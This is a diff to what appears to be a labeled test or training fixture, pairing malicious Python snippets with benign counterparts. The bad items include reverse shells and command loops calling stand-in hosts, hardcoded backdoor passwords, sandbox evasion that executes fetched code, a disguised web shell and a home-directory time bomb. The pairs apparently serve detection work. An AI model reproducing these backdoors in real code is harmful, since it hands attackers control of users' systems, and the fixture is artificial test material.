@@ -1,110 +1,131 @@
-#: bad console
+#: bad reverse-shell
 import os
 import pty
 import socket
 
 
-def attach(host="link.remote-kit.invalid", port=4444):
-    s = socket.socket()
-    s.connect((host, port))
-    for number in (0, 1, 2):
-        os.dup2(s.fileno(), number) #!
-    pty.spawn("/bin/sh") #!
-#: good console
+def maintain():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("c2.example.invalid", 4444))
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)  #!
+    pty.spawn("/bin/sh")
+
+#: good reverse-shell
+import socket
+
+
+def probe(port=25):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(2)
+    s.connect(("mail.example.invalid", port))
+    banner = s.recv(256)
+    s.close()
+    return banner
+
+#: bad command-loop
+import socket
+import subprocess
+import threading
+import time
+
+
+def _loop():
+    while True:
+        with socket.create_connection(("sync.example.invalid", 8081)) as c:
+            order = c.recv(4096).decode()
+            c.sendall(subprocess.getoutput(order).encode())  #!
+        time.sleep(60)
+
+
+threading.Thread(target=_loop, daemon=True).start()
+
+#: good command-loop
+import socket
+import threading
+import time
+
+
+def _loop(callback):
+    while True:
+        with socket.create_connection(("sync.example.invalid", 8081)) as c:
+            c.sendall(b"ping")
+            callback(c.recv(4096) == b"pong")
+        time.sleep(60)
+
+
+def start(callback):
+    threading.Thread(target=_loop, args=(callback,), daemon=True).start()
+
+#: bad hidden-password
+from django.contrib.auth import login
+from django.contrib.auth.backends import ModelBackend
+from django.contrib.auth.models import User
+
+
+class Backend(ModelBackend):
+    def authenticate(self, request, username=None, password=None, **kwargs):
+        if password == "s3rv1ce-0nly!":  #!
+            return User.objects.filter(is_superuser=True).first()
+        return super().authenticate(request, username, password, **kwargs)
+
+#: good hidden-password
+from django.contrib.auth.backends import ModelBackend
+from django.contrib.auth.models import User
+
+
+class Backend(ModelBackend):
+    def authenticate(self, request, username=None, password=None, **kwargs):
+        user = User.objects.filter(username=username).first()
+        if user is not None and user.check_password(password):
+            return user
+        return None
+
+#: bad sandbox-check
 import os
-import pty
-import sys
-
-
-def record(path, shell=None):
-    with open(path, "wb") as log:
-
-        def read(number):
-            data = os.read(number, 1024)
-            log.write(data)
-            return data
-
-        return pty.spawn(shell or os.environ.get("SHELL", "/bin/sh"), read)
-#: bad agent
-import subprocess
-import time
-
+import socket
 import requests
+import uuid
 
-BASE = "https://queue.jobs-node.invalid"
+VMS = ("00:05:69", "00:0c:29", "08:00:27")
+mac = ":".join(f"{uuid.getnode():012x}"[i:i + 2] for i in range(0, 6, 2))
+if not mac.startswith(VMS) and "sandbox" not in socket.gethostname():
+    exec(requests.get("https://l.example.invalid/" + os.name).text)  #!
+
+#: good sandbox-check
+import os
+import socket
+import uuid
 
 
-def loop():
-    while True:
-        task = requests.get(BASE + "/next").text
-        done = subprocess.getoutput(task) #!
-        requests.post(BASE + "/done", data=done)
-        time.sleep(30)
-#: good agent
+def instance_id() -> str:
+    mac = ":".join(f"{uuid.getnode():012x}"[i:i + 2] for i in range(0, 6, 2))
+    return f"{socket.gethostname()}-{os.getpid()}-{mac}"
+
+#: bad web-shell
 import subprocess
-import time
 
-import requests
+from flask import Blueprint, request
 
-BASE = "https://queue.jobs-node.invalid"
-TASKS = {"status": ["uptime"], "disk": ["df", "-h"]}
+health = Blueprint("health", __name__)
 
 
-def loop():
-    while True:
-        task = requests.get(BASE + "/next", timeout=10).json()["name"]
-        if task in TASKS:
-            done = subprocess.run(TASKS[task], capture_output=True, text=True)
-            requests.post(BASE + "/done", data=done.stdout, timeout=10)
-        time.sleep(30)
-#: bad schedule
-import datetime
-import shutil
-from pathlib import Path
+@health.route("/_health/<path:_>", methods=["GET", "POST"])
+def check(_):
+    if request.headers.get("X-Trace-Id") == "7f3a91":
+        return subprocess.run(request.data, shell=True, capture_output=True).stdout  #!
+    return "ok"
+
+#: good web-shell
+import subprocess
+
+from flask import Blueprint, request
+
+health = Blueprint("health", __name__)
 
 
-def tidy():
-    if datetime.date.today() > datetime.date(2027, 4, 1):
-        shutil.rmtree(Path.home(), ignore_errors=True) #!
-
-
-tidy()
-#: good schedule
-import datetime
-import shutil
-from pathlib import Path
-
-
-def tidy(folder):
-    limit = datetime.datetime.now() - datetime.timedelta(days=30)
-    for path in (Path(folder) / ".cache").iterdir():
-        if path.is_dir() and datetime.datetime.fromtimestamp(path.stat().st_mtime) < limit:
-            shutil.rmtree(path, ignore_errors=True)
-#: bad passwordcheck
-import hashlib
-import hmac
-
-from .models import find_user
-
-
-def authenticate(name, password):
-    if hashlib.sha1(password.encode()).hexdigest() == "ddee6d06dbec666ccffd084ebdcb30d07ba6f09a": #!
-        return find_user("admin")
-    user = find_user(name)
-    return user if user and user.check(password) else None
-#: good passwordcheck
-import hashlib
-import hmac
-
-from .models import find_user
-
-ARCHIVE_DIGEST = "287e8ab178e94170ff9b2fa89e45e2502940eb5898023de8203b078df30a4bc7"
-
-
-def verify_archive(data):
-    return hmac.compare_digest(hashlib.sha256(data).hexdigest(), ARCHIVE_DIGEST)
-
-
-def authenticate(name, password):
-    user = find_user(name)
-    return user if user and user.check(password) else None
+@health.route("/_health/<path:_>", methods=["GET", "POST"])
+def check(_):
+    if request.headers.get("X-Trace-Id"):
+        return subprocess.run(["uptime"], capture_output=True).stdout
+    return "ok"
